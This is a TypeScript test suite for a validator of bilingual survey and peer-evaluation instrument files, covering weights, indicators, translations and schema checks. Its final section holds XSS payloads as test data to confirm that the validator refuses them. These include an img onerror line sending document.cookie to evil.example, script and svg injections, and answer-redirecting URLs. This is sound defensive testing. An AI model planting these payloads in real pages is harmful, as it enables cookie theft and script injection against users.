import { describe, expect, it } from "vitest";
import { checkInstrument, describeProblem, PROBLEM_CODES, surveyQuestions, type Problem, type ProblemCode } from "./check";
import { list, node } from "./testing/json";
import { isJsonObject, type Json } from "./walk";
import { one } from "@/db/query";

// A small valid instrument; each test breaks one thing in a fresh copy.
const t = (zh: string, en: string) => ({ default: zh, en });
const LEVEL = [
  { value: 1, text: t("优秀", "Excellent") },
  { value: 0.6, text: t("中等", "Fair") },
  { value: 0.2, text: t("差", "Poor") },
  { value: "na", text: t("无法评估", "Cannot judge") },
];

function base(): Json {
  return structuredClone({
    key: "mini",
    kind: "peer_evaluation",
    name: { zh: "小表", en: "Mini form" },
    indicators: [
      {
        id: "A",
        name: { zh: "甲", en: "A" },
        weight: 0.6,
        children: [
          { id: "A.1", name: { zh: "甲一", en: "A one" }, weight: 0.5 },
          { id: "A.2", name: { zh: "甲二", en: "A two" }, weight: 0.5 },
        ],
      },
      { id: "B", name: { zh: "乙", en: "B" }, weight: 0.4, children: [{ id: "B.1", name: { zh: "乙一", en: "B one" }, weight: 1 }] },
    ],
    items: [
      { question: "q1", indicator: "A.1", weight: 1 },
      { question: "q2", indicator: "A.2", weight: 1 },
      { question: "grid", row: "r1", indicator: "B.1", weight: 0.5 },
      { question: "grid", row: "r2", indicator: "B.1", weight: 0.5 },
    ],
    unscored: ["hours"],
    survey: {
      title: t("小表", "Mini form"),
      completedHtml: t("<p>谢谢</p>", "<p>Thank you</p>"),
      pages: [
        {
          name: "p1",
          title: t("第一页", "Page one"),
          elements: [
            { type: "radiogroup", name: "q1", title: t("问题一", "Question one"), isRequired: true, choices: LEVEL },
            {
              type: "rating",
              name: "q2",
              title: t("问题二", "Question two"),
              rateMin: 1,
              rateMax: 5,
              minRateDescription: t("很差", "Very poor"),
              maxRateDescription: t("很好", "Very good"),
            },
            {
              type: "matrix",
              name: "grid",
              title: t("矩阵", "Grid"),
              columns: LEVEL,
              rows: [
                { value: "r1", text: t("行一", "Row one") },
                { value: "r2", text: t("行二", "Row two") },
              ],
            },
            {
              type: "text",
              name: "hours",
              title: t("学时", "Hours"),
              inputType: "number",
              min: 0,
              max: 40,
              validators: [{ type: "numeric", minValue: 0, maxValue: 40, text: t("0–40", "0 to 40") }],
            },
            {
              type: "dropdown",
              name: "year",
              title: t("年级", "Year"),
              visibleIf: "{q1} = 1",
              choices: [
                { value: "y1", text: t("大一", "First year") },
                { value: "y2", text: t("大二", "Second year") },
              ],
            },
            { type: "comment", name: "note", title: t("意见", "Comments"), placeholder: t("选填", "Optional") },
          ],
        },
      ],
    },
  });
}

const el = (f: Json, name: string) => node(list(f, "survey.pages.0.elements").find((e) => isJsonObject(e) && e.name === name));

function problems(f: Json): Problem[] {
  const r = checkInstrument(f);
  return r.ok ? [] : r.problems;
}

/** Refused with exactly this code (among possibly others), with readable zh and en messages. */
function expectProblem(f: Json, code: ProblemCode, match: Partial<Problem> = {}) {
  const r = checkInstrument(f);
  expect(r.ok, "should be refused").toBe(false);
  const all = r.ok ? [] : r.problems;
  const found = all.find((p) => p.code === code && (match.path === undefined || p.path === match.path));
  expect(found, `expected ${code}; got ${JSON.stringify(all)}`).toBeDefined();
  if (found === undefined) throw new Error(`expected ${code}`);
  if (match.params) expect(found.params).toMatchObject(match.params);
  const zh = describeProblem(found, "zh");
  const en = describeProblem(found, "en");
  expect(zh).toMatch(/[\u4e00-\u9fff]/);
  const unfilled = new RegExp(
    `\\{(${Object.keys(found.params ?? {})
      .concat("question", "indicator", "sum", "value", "property", "lang", "row")
      .join("|")})\\}`,
  );
  expect(en).not.toMatch(unfilled);
  expect(zh).not.toMatch(unfilled);
  expect(en).toContain(found.path);
  return { problem: found, zh, en, all };
}

describe("checkInstrument", () => {
  it("accepts a valid instrument and returns it parsed", () => {
    const r = checkInstrument(base());
    expect(r.ok ? [] : r.problems).toEqual([]);
    expect(r.ok && r.file.key).toBe("mini");
  });

  it("reports zod issues with their paths", () => {
    const f = base();
    f.kind = "quiz";
    delete node(f, "name").en;
    node(f, "items.0").weight = 0;
    const all = problems(f);
    expect(all).toEqual(
      expect.arrayContaining([
        expect.objectContaining({ path: "kind", code: "schema_invalid_value" }),
        expect.objectContaining({ path: "name.en", code: "schema_invalid_type" }),
        expect.objectContaining({ path: "items[0].weight", code: "schema_too_small" }),
      ]),
    );
    expect(describeProblem(one(all.filter((p) => p.path === "kind")), "zh")).toContain("student_evaluation");
  });

  it("reports unknown fields that zod would silently drop", () => {
    const f = base();
    f.unscord = [];
    node(f, "items.1").wieght = 1;
    expectProblem(f, "unknown_field", { path: "unscord" });
    expectProblem(f, "unknown_field", { path: "items[1].wieght" });
  });

  describe("SurveyJS definition (survey-core jsonErrors)", () => {
    it("refuses an unknown question type", () => {
      const f = base();
      list(f, "survey.pages.0.elements").push({ type: "starrating", name: "q9", title: t("九", "Nine") });
      const { zh, en } = expectProblem(f, "survey_unknown_type", {
        path: "survey.pages[0].elements[6].type",
        params: { type: "starrating" },
      });
      expect(zh).toContain("starrating");
      expect(en).toContain('does not know the type "starrating"');
    });

    it("refuses an unknown property and an invalid property value", () => {
      const f = base();
      el(f, "q1").colour = "red";
      el(f, "hours").inputType = "numbr";
      expectProblem(f, "survey_unknown_property", {
        path: "survey.pages[0].elements[0].colour",
        params: { property: "colour", className: "radiogroup" },
      });
      expectProblem(f, "survey_incorrect_value", { path: "survey.pages[0].elements[3].inputType", params: { value: "numbr" } });
    });

    it("refuses a question without a name", () => {
      const f = base();
      delete el(f, "note").name;
      expectProblem(f, "survey_required_property", { params: { property: "name" } });
    });

    it("refuses locale in the definition and expressions naming missing questions", () => {
      const f = base();
      node(f, "survey").locale = "zh-cn";
      el(f, "year").visibleIf = "{q7} = 1";
      expectProblem(f, "survey_locale_forbidden");
      expectProblem(f, "expression_unknown_question", { params: { question: "q7" } });
    });
  });

  describe("indicators and weights", () => {
    it("refuses level-1 weights summing to 0.9", () => {
      const f = base();
      node(f, "indicators.1").weight = 0.3;
      const { zh, en } = expectProblem(f, "indicator_weights_sum", { path: "indicators", params: { sum: 0.9 } });
      expect(zh).toBe("indicators：一级指标权重之和为 0.9，应为 1");
      expect(en).toBe("indicators: the level-1 indicator weights sum to 0.9, not 1");
    });

    it("refuses children weights that do not sum to 1, within 1e-6", () => {
      const f = base();
      node(f, "indicators.0.children.1").weight = 0.4;
      expectProblem(f, "indicator_children_weights_sum", { path: "indicators[0].children", params: { indicator: "A", sum: 0.9 } });
      const g = base();
      node(g, "indicators.0.children.0").weight = 0.1 + 0.2; // floating point: 0.30000000000000004
      node(g, "indicators.0.children.1").weight = 0.7;
      expect(problems(g)).toEqual([]);
    });

    it("refuses item weights of a leaf that do not sum to 1", () => {
      const f = base();
      node(f, "items.3").weight = 0.4;
      expectProblem(f, "item_weights_sum", { params: { indicator: "B.1", sum: 0.9 } });
    });

    it("refuses duplicate indicator ids", () => {
      const f = base();
      node(f, "indicators.1.children.0").id = "A.1";
      expectProblem(f, "duplicate_indicator_id", { path: "indicators[1].children[0].id" });
    });

    it("refuses items on unknown or non-leaf indicators, and leaves without items", () => {
      const f = base();
      node(f, "items.0").indicator = "A.9";
      expectProblem(f, "item_indicator_unknown", { path: "items[0].indicator", params: { indicator: "A.9" } });
      expectProblem(f, "indicator_without_items", { params: { indicator: "A.1" } });
      const g = base();
      node(g, "items.1").indicator = "A";
      expectProblem(g, "item_indicator_not_leaf", { path: "items[1].indicator" });
    });
  });

  describe("items and questions", () => {
    it("refuses an item pointing to a missing question", () => {
      const f = base();
      node(f, "items.0").question = "q_missing";
      const { en } = expectProblem(f, "item_question_missing", { path: "items[0].question", params: { question: "q_missing" } });
      expect(en).toContain("q_missing");
    });

    it("refuses a numeric question that is neither mapped nor unscored", () => {
      const f = base();
      list(f, "survey.pages.0.elements").push({ type: "radiogroup", name: "extra", title: t("附加", "Extra"), choices: LEVEL });
      const { zh } = expectProblem(f, "numeric_question_unmapped", { path: "survey.pages[0].elements[6]", params: { question: "extra" } });
      expect(zh).toContain("unscored");
      list(f, "unscored").push("extra");
      expect(problems(f)).toEqual([]);
    });

    it("counts a rating as numeric even without rateValues", () => {
      const f = base();
      list(f, "survey.pages.0.elements").push({ type: "rating", name: "stars", title: t("星级", "Stars") });
      expectProblem(f, "numeric_question_unmapped", { params: { question: "stars" } });
    });

    it("refuses a scored question with a non-numeric option", () => {
      const f = base();
      list(el(f, "q1"), "choices").push({ value: "unsure", text: t("不确定", "Not sure") });
      const { en } = expectProblem(f, "option_not_numeric", {
        path: "survey.pages[0].elements[0].choices[4]",
        params: { question: "q1", value: "unsure" },
      });
      expect(en).toContain("only the reserved value na may be non-numeric");
      const g = base();
      list(g, "unscored").push("stars");
      list(g, "survey.pages.0.elements").push({
        type: "rating",
        name: "stars",
        title: t("星级", "Stars"),
        rateValues: [1, 2, { value: "x", text: t("叉", "X") }],
      });
      expectProblem(g, "option_not_numeric", {
        path: "survey.pages[0].elements[6].rateValues[2]",
        params: { question: "stars", value: "x" },
      });
    });

    it("refuses an 'other' answer on a scored question, and numbers given as strings", () => {
      const f = base();
      el(f, "q1").showOtherItem = true;
      el(f, "q1").otherText = t("其他", "Other");
      expectProblem(f, "option_not_numeric", { params: { value: "other" } });
      const g = base();
      node(g, "survey.pages.0.elements.2").columns = [
        { value: "1", text: t("好", "Good") },
        { value: "0", text: t("差", "Poor") },
      ];
      expectProblem(g, "option_not_numeric", { params: { question: "grid", value: "1" } });
    });

    it("refuses rating scales that are not integers", () => {
      const f = base();
      el(f, "q2").rateMax = 4.5;
      expectProblem(f, "rating_scale_invalid", { params: { question: "q2" } });
    });

    it("refuses scoring a question type that cannot be scored", () => {
      const f = base();
      node(f, "items.1").question = "note";
      expectProblem(f, "item_question_not_scorable", { params: { question: "note", type: "comment" } });
    });

    it("requires existing rows for matrix items and maps every row of a scored matrix", () => {
      const f = base();
      delete node(f, "items.3").row;
      expectProblem(f, "item_row_required", { path: "items[3]" });
      expectProblem(f, "matrix_row_unmapped", { params: { row: "r2" } });
      const g = base();
      node(g, "items.3").row = "r9";
      expectProblem(g, "item_row_missing", { path: "items[3].row", params: { row: "r9" } });
      const h = base();
      node(h, "items.0").row = "r1";
      expectProblem(h, "item_row_unexpected", { path: "items[0].row" });
    });

    it("refuses the same question mapped twice, and a question both scored and unscored", () => {
      const f = base();
      node(f, "items.0").weight = 0.5;
      list(f, "items").push({ question: "q1", indicator: "A.1", weight: 0.5 });
      expectProblem(f, "duplicate_item", { params: { target: "q1" } });
      const g = base();
      list(g, "unscored").push("q2");
      expectProblem(g, "unscored_but_scored", { params: { question: "q2" } });
      list(g, "unscored").push("ghost");
      expectProblem(g, "unscored_question_missing", { params: { question: "ghost" } });
    });

    it("refuses duplicate and non-ASCII question names, and duplicate choice values", () => {
      const f = base();
      el(f, "note").name = "year";
      expectProblem(f, "duplicate_question_name", { params: { question: "year" } });
      const g = base();
      el(g, "note").name = "意见";
      expectProblem(g, "question_name_invalid", { params: { question: "意见" } });
      const h = base();
      node(el(h, "year"), "choices.1").value = "y1";
      expectProblem(h, "duplicate_choice_value", {
        path: "survey.pages[0].elements[4].choices[1]",
        params: { question: "year", value: "y1" },
      });
    });
  });

  describe("both languages", () => {
    it("refuses a plain string (English missing)", () => {
      const f = base();
      el(f, "q1").title = "问题一";
      const { zh, en } = expectProblem(f, "text_not_localized", {
        path: "survey.pages[0].elements[0].title",
        params: { property: "title" },
      });
      expect(zh).toContain("缺少英文");
      expect(en).toContain("English is missing");
    });

    it("refuses a missing or empty translation anywhere respondents see text", () => {
      const cases: [(f: Json) => void, string, "zh" | "en"][] = [
        [
          (f) => {
            node(f, "survey").title = { default: "小表" };
          },
          "survey.title.en",
          "en",
        ],
        [
          (f) => {
            node(f, "survey").completedHtml = { default: "<p>谢谢</p>", en: " " };
          },
          "survey.completedHtml.en",
          "en",
        ],
        [
          (f) => {
            node(f, "survey.pages.0").title = { en: "Page one" };
          },
          "survey.pages[0].title.default",
          "zh",
        ],
        [
          (f) => {
            node(el(f, "q1"), "choices.0").text = { default: "优秀" };
          },
          "survey.pages[0].elements[0].choices[0].text.en",
          "en",
        ],
        [
          (f) => {
            el(f, "q2").maxRateDescription = { default: "很好" };
          },
          "survey.pages[0].elements[1].maxRateDescription.en",
          "en",
        ],
        [
          (f) => {
            node(el(f, "grid"), "rows.1").text = { default: "行二" };
          },
          "survey.pages[0].elements[2].rows[1].text.en",
          "en",
        ],
        [
          (f) => {
            node(el(f, "hours"), "validators.0").text = { default: "0–40" };
          },
          "survey.pages[0].elements[3].validators[0].text.en",
          "en",
        ],
        [
          (f) => {
            el(f, "note").placeholder = { default: "选填", en: "" };
          },
          "survey.pages[0].elements[5].placeholder.en",
          "en",
        ],
      ];
      for (const [breakIt, path, lang] of cases) {
        const f = base();
        breakIt(f);
        const { zh, en } = expectProblem(f, "translation_missing", { path, params: { lang } });
        expect(zh).toContain(lang === "en" ? "缺少英文文本" : "缺少中文文本");
        expect(en).toContain(lang === "en" ? "has no English text" : "has no Chinese text");
      }
    });

    it("checks matrixdropdown columns, their choices and boolean labels", () => {
      const f = base();
      list(f, "unscored").push("abilities");
      list(f, "survey.pages.0.elements").push(
        {
          type: "matrixdropdown",
          name: "abilities",
          title: t("能力", "Abilities"),
          rows: [{ value: "teamwork", text: t("团队协作", "Teamwork") }],
          columns: [
            {
              name: "own_level",
              title: { default: "自身水平" },
              cellType: "dropdown",
              choices: [
                { value: 1, text: t("低", "Low") },
                { value: 2, text: "高" },
                { value: "na", text: t("无法评估", "Cannot judge") },
              ],
            },
          ],
        },
        { type: "boolean", name: "ok", title: t("同意", "Agree"), labelTrue: "是" },
      );
      expectProblem(f, "translation_missing", { path: "survey.pages[0].elements[6].columns[0].title.en" });
      expectProblem(f, "text_not_localized", { path: "survey.pages[0].elements[6].columns[0].choices[1].text" });
      expectProblem(f, "text_not_localized", { path: "survey.pages[0].elements[7].labelTrue" });
    });

    it("refuses options and questions that would show their raw value", () => {
      const f = base();
      list(el(f, "year"), "choices").push("y3");
      delete el(f, "note").title;
      expectProblem(f, "text_missing", { path: "survey.pages[0].elements[4].choices[2]", params: { value: "y3" } });
      expectProblem(f, "text_missing", { path: "survey.pages[0].elements[5]", params: { property: "title", value: "note" } });
    });
  });
});

describe("no executable markup (instrument files are content, never script)", () => {
  const IMG = "<img src=x onerror=\"fetch('https://evil.example/'+document.cookie)\">";

  it("refuses the attack's payload in an html element and in completedHtml, with the path, in both languages", () => {
    const f = base();
    list(f, "survey.pages.0.elements").push({
      type: "html",
      name: "intro",
      html: t(`<p>请如实填写</p>${IMG}`, "<p>Please answer honestly</p>"),
    });
    node(f, "survey").completedHtml = t("<h3>谢谢</h3>", `<h3>Thanks</h3>${IMG}`);
    const a = expectProblem(f, "markup_not_allowed", { path: "survey.pages[0].elements[6].html.default", params: { markup: "<img>" } });
    expect(a.zh).toContain("survey.pages[0].elements[6].html.default：");
    expect(a.zh).toContain("<img>");
    expect(a.en).toContain("not allowed");
    expectProblem(f, "markup_not_allowed", { path: "survey.completedHtml.en", params: { markup: "<img>" } });
  });

  it("refuses scripts, event attributes, styles, links, frames, comments and other tags anywhere in the file", () => {
    const cases: [string, string][] = [
      ["<script>alert(1)</script>", "<script>"],
      ['<p onclick="alert(1)">x</p>', "onclick"],
      ["<P OnMouseOver=alert(1)>x</P>", "onmouseover"],
      ["<svg onload=alert(1)>", "<svg>"],
      ['<iframe srcdoc="<script>alert(1)</script>"></iframe>', "<iframe>"],
      ['<a href="javascript:alert(1)">x</a>', "<a>"],
      ["<style>body{background:url(//evil.example)}</style>", "<style>"],
      ['<p style="background:url(//evil.example)">x</p>', "style"],
      ['<span class="a" class="b">x</span>', "class"],
      ["<!-- x -->", "<!--"],
      ["<p/onclick=alert(1)>", "onclick"],
      ['<p class="x"onclick="y">', "onclick"],
      ["<b", "<b"],
      ["<math><mi xlink:href=x>", "<math>"],
    ];
    for (const [html, markup] of cases) {
      const f = base();
      el(f, "q1").title = t(`问题一${html}`, "Question one");
      expectProblem(f, "markup_not_allowed", { path: "survey.pages[0].elements[0].title.default", params: { markup } });
    }
    const f = base();
    node(f, "indicators.0.name").zh = "<img src=x onerror=alert(1)>";
    expectProblem(f, "markup_not_allowed", { path: "indicators[0].name.zh" });
  });

  it("accepts the small set of layout tags with a class, and text that only looks like markup", () => {
    const f = base();
    node(f, "survey").completedHtml = t(
      '<h3 class="done">提交成功</h3><p>谢谢<br/>您的参与：<b>匿名</b>、<em>不可追溯</em></p><ul><li>一</li></ul>',
      "<div><strong>Done</strong><br>Thank you</div>",
    );
    el(f, "q1").title = t("分数 < 60 或 a<=b 时 3<5", "Below 60 & more");
    expect(problems(f)).toEqual([]);
  });

  it("refuses properties that send answers away, navigate, or load from other sites", () => {
    const f = base();
    node(f, "survey").navigateToUrl = "https://evil.example/?t={q1}";
    node(f, "survey").surveyPostId = "abc";
    el(f, "year").choicesByUrl = { url: "https://evil.example/choices" };
    node(f, "survey").logo = "https://evil.example/logo.png";
    expectProblem(f, "property_not_allowed", { path: "survey.navigateToUrl", params: { property: "navigateToUrl" } });
    expectProblem(f, "property_not_allowed", { path: "survey.surveyPostId" });
    expectProblem(f, "property_not_allowed", { path: "survey.pages[0].elements[4].choicesByUrl" });
    expectProblem(f, "property_not_allowed", { path: "survey.logo" });
    const ok = base();
    node(ok, "survey").logo = "data:image/png;base64,iVBORw0KGgo=";
    expect(problems(ok).filter((p) => p.code === "property_not_allowed")).toEqual([]);
  });
});

describe("describeProblem", () => {
  it("has a Chinese and an English text for every code", () => {
    for (const code of PROBLEM_CODES) {
      const p: Problem = { path: "x", code, params: { question: "q1", sum: 0.9, lang: "en" } };
      expect(describeProblem(p, "zh"), code).toMatch(/[\u4e00-\u9fff]/);
      expect(describeProblem(p, "en").replace(/"[^"]*"/g, ""), code).not.toMatch(/[\u4e00-\u9fff]/);
    }
  });

  it("names the language in the reader's language", () => {
    const p: Problem = { path: "survey.title.en", code: "translation_missing", params: { property: "title", lang: "en" } };
    expect(describeProblem(p, "zh")).toBe("survey.title.en：“title”缺少英文文本");
    expect(describeProblem(p, "en")).toBe('survey.title.en: "title" has no English text');
  });
});

describe("surveyQuestions", () => {
  it("lists questions of pages and nested panels in order, with paths", () => {
    const qs = surveyQuestions({
      pages: [
        {
          name: "p",
          elements: [
            { type: "text", name: "a" },
            {
              type: "panel",
              name: "box",
              elements: [
                { type: "rating", name: "b" },
                { type: "panel", name: "inner", elements: [{ type: "comment", name: "c" }] },
              ],
            },
          ],
        },
      ],
    });
    expect(qs.map((q) => [q.name, q.type, q.path])).toEqual([
      ["a", "text", "survey.pages[0].elements[0]"],
      ["b", "rating", "survey.pages[0].elements[1].elements[0]"],
      ["c", "comment", "survey.pages[0].elements[1].elements[1].elements[0]"],
    ]);
  });
});
